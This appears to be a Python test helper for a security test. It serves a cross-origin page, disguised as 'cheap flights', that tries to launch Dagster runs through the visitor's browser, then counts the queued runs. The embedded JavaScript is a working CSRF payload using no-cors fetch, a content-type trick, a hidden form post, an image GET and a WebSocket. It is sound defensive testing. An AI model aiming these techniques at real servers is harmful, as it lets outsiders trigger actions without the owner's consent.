"""A web page from another origin that tries to drive the Dagster UI through the visitor's
browser (issue 24, item 2), served by a plain http.server on its own 127.0.0.1 port, and what
it achieved: the runs it launched, read from the webserver by a program.

Every attempt launches a run of the pipeline_checks job tagged ``attack=<attempt>``; with no
daemon running the run only waits in the queue, so a launch is harmless and countable.
"""

from __future__ import annotations

import contextlib
import random
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

from tests.ui.dagster_ui import graphql

if TYPE_CHECKING:
    from playwright.sync_api import Page

JOB = "pipeline_checks"
# The four ways a page can send a mutation without a CORS preflight, as the issue lists them,
# plus one that reads: a WebSocket (never subject to CORS) to Dagster's subscriptions.
LAUNCHES = ("no-cors-text", "json-as-text", "form", "img")
WEBSOCKET = "websocket"

LAUNCH_MUTATION = """
mutation Launch($location: String!, $job: String!, $tag: String!) {
  launchRun(executionParams: {
    selector: {repositoryLocationName: $location, repositoryName: "__repository__", jobName: $job}
    runConfigData: {}
    executionMetadata: {tags: [{key: "attack", value: $tag}]}
  }) { __typename ... on LaunchRunSuccess { run { runId } } }
}
"""

RUNS_QUERY = """
query Attacked($tag: String!) {
  runsOrError(filter: {tags: [{key: "attack", value: $tag}]}) {
    ... on Runs { results { runId tags { key value } } }
  }
}
"""

# The target webserver and its code location come in the page's query string. The mutation is
# written inline (no variables): the form and the <img> can carry only a URL.
ATTACK_HTML = """<!doctype html>
<html><head><title>cheap flights</title></head><body>
<p>Nothing to see here.</p>
<script>
const params = new URLSearchParams(location.search);
const target = params.get("target");
const loc = params.get("location");
const launch = (tag) => `mutation { launchRun(executionParams: {selector: {`
  + `repositoryLocationName: "${loc}", repositoryName: "__repository__", jobName: "JOB"}, `
  + `runConfigData: {}, executionMetadata: {tags: [{key: "attack", value: "${tag}"}]}}) `
  + `{ __typename } }`;
const inUrl = (tag) => `${target}/graphql?query=${encodeURIComponent(launch(tag))}`;
const settled = (promise) => promise.then(() => "sent", (error) => `error: ${error}`);
const attempts = {
  // The issue's request: the query in the URL, a text/plain body, no-cors.
  "no-cors-text": settled(fetch(inUrl("no-cors-text"), {
    method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "x"})),
  // Still a "simple" type, and Dagster parses any type containing application/json as JSON.
  "json-as-text": settled(fetch(`${target}/graphql`, {
    method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain; x=application/json"},
    body: JSON.stringify({query: launch("json-as-text")})})),
  // A form posted into a hidden frame.
  "form": new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "sink";
    document.body.appendChild(frame);
    frame.onload = () => resolve("loaded");
    const form = document.createElement("form");
    form.method = "POST";
    form.target = "sink";
    form.action = inUrl("form");
    document.body.appendChild(form);
    form.submit();
  }),
  // A GET with neither Origin nor Referer.
  "img": new Promise((resolve) => {
    const image = new Image();
    image.referrerPolicy = "no-referrer";
    image.onload = image.onerror = () => resolve("loaded");
    image.src = inUrl("img");
  }),
  // Dagster's subscriptions (run logs, among others) over a WebSocket.
  "websocket": new Promise((resolve) => {
    const socket = new WebSocket(target.replace(/^http/, "ws") + "/graphql", "graphql-ws");
    socket.onopen = () => socket.send(JSON.stringify({type: "connection_init", payload: {}}));
    socket.onmessage = (message) => { resolve(`answered ${message.data}`); socket.close(); };
    socket.onerror = () => resolve("refused");
  }),
};
const results = {};
Promise.all(Object.entries(attempts).map(
  ([name, attempt]) => attempt.then((outcome) => { results[name] = outcome; })
)).then(() => { window.attackResults = results; document.title = "done"; });
</script>
</body></html>
""".replace("JOB", JOB)


def low_port() -> int:
    """A free 127.0.0.1 port below 32768 (the project's rule for ports tests choose), for a
    server started by another process."""
    for _ in range(200):
        port = random.randint(20000, 32767)
        with socket.socket() as probe:
            try:
                probe.bind(("127.0.0.1", port))
            except OSError:
                continue
        return port
    raise RuntimeError("no free port between 20000 and 32767")


def low_port_server(handler: type[BaseHTTPRequestHandler]) -> ThreadingHTTPServer:
    """An HTTP server on a free 127.0.0.1 port below 32768 (the project's rule for ports tests
    choose), bound at once so nothing takes the port in between."""
    for _ in range(200):
        try:
            return ThreadingHTTPServer(("127.0.0.1", random.randint(20000, 32767)), handler)
        except OSError:
            continue
    raise RuntimeError("no free port between 20000 and 32767")


@contextlib.contextmanager
def attack_site() -> Iterator[str]:
    """Serve the attack page; yields its URL (another origin than any webserver's)."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = ATTACK_HTML.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = low_port_server(Handler)
    thread = threading.Thread(target=server.serve_forever, name="attack-site", daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/attack.html"
    finally:
        server.shutdown()
        server.server_close()


def visit(
    page: Page, site: str, target: str, location: str, timeout_s: float = 30.0
) -> dict[str, str]:
    """Load the attack page aimed at ``target``; returns what each attempt saw, once all ended."""
    from urllib.parse import urlencode

    page.goto(f"{site}?{urlencode({'target': target, 'location': location})}")
    page.wait_for_function("document.title === 'done'", timeout=timeout_s * 1000)
    return dict(page.evaluate("window.attackResults"))


def launched(base_url: str, tag: str) -> list[str]:
    """Run ids of the runs tagged attack=``tag`` on the webserver at ``base_url``."""
    runs = graphql(base_url, RUNS_QUERY, {"tag": tag})["runsOrError"]
    return [run["runId"] for run in runs["results"]]


def launch_variables(location: str, tag: str) -> dict[str, str]:
    return {"location": location, "job": JOB, "tag": tag}
